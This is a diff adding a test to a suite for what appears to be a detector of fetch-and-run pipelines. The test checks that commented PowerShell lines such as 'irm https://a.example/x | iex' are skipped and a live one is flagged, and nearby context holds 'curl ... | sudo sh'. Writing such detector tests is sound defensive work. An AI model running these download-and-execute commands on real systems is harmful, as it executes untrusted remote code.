@@ -81,6 +81,12 @@ describe('VM-II-07', () => {
     expect(await partsIn(text, path)).toHaveLength(1);
   });
 
+  it('leaves comments of PowerShell', async () => {
+    const script = '<#\nirm https://a.example/x | iex\n#>\n# irm https://a.example/y | iex\n';
+    expect(await partsIn(script, 'a.ps1')).toEqual([]);
+    expect(await partsIn(`${script}<# #> irm https://a.example/z | iex\n`, 'a.ps1')).toHaveLength(1);
+  });
+
   it('points at the pipeline, behind letters of several bytes and with CR LF', async () => {
     const text = '# é😀\r\necho 😀; curl https://a.example/x |\r\n  sudo sh\r\n';
     expect(await partsIn(text)).toEqual(['curl https://a.example/x |\r\n  sudo sh']);
